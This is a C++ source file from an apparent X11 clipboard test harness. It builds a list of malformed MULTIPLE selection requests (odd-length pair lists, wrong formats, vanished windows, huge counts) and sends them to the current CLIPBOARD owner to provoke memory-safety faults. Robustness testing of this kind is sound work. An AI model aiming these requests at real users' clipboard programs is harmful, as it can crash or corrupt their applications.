#include "Requestor.h"

#include <X11/Xlib.h>

namespace quillshift::attack {

const std::vector<Request>& OddRequests() {
    static const std::vector<Request> requests = [] {
        std::vector<Request> odd{{.name = "no list"},
                                 {.name = "a list of an unknown place", .namesList = false},
                                 {.name = "a window that has gone", .count = 8, .windowGoes = true},
                                 {.name = "a list of bytes", .format = 8, .count = 56},
                                 {.name = "a list of words", .format = 16, .count = 28},
                                 {.name = "a list of another type", .type = "STRING", .count = 8},
                                 {.name = "60,000 pairs", .count = 120000}};
        for (const int count : {1, 7, 15, 263, 1023})
            odd.push_back({.name = "an odd list of " + std::to_string(count), .count = count});
        return odd;
    }();
    return requests;
}

Requestor::Requestor(const std::string& display) : display_(XOpenDisplay(display.c_str())) {}

Requestor::~Requestor() {
    XCloseDisplay(display_);
}

unsigned long Requestor::AtomOf(const char* name) const {
    return XInternAtom(display_, name, False);
}

void Requestor::Ask(const Request& request) {
    const unsigned long window =
        XCreateSimpleWindow(display_, DefaultRootWindow(display_), 0, 0, 1, 1, 0, 0, 0);
    const unsigned long list = AtomOf("LIST");
    if (request.count > 0) {
        std::vector<unsigned long> units(static_cast<std::size_t>(request.count), AtomOf("UTF8_STRING"));
        for (std::size_t i = 1; i < units.size(); i += 2)
            units[i] = AtomOf("ANSWER");
        if (request.count % 2 == 1)
            units.back() = None; // where it is written past an array, nothing there stays valid
        XChangeProperty(display_, window, list, AtomOf(request.type), request.format, PropModeReplace,
                        reinterpret_cast<const unsigned char*>(units.data()), request.count);
    }
    XConvertSelection(display_, AtomOf("CLIPBOARD"), AtomOf("MULTIPLE"), request.namesList ? list : None,
                      window, CurrentTime);
    if (request.windowGoes)
        XDestroyWindow(display_, window);
    XSync(display_, False);
}

} // namespace quillshift::attack
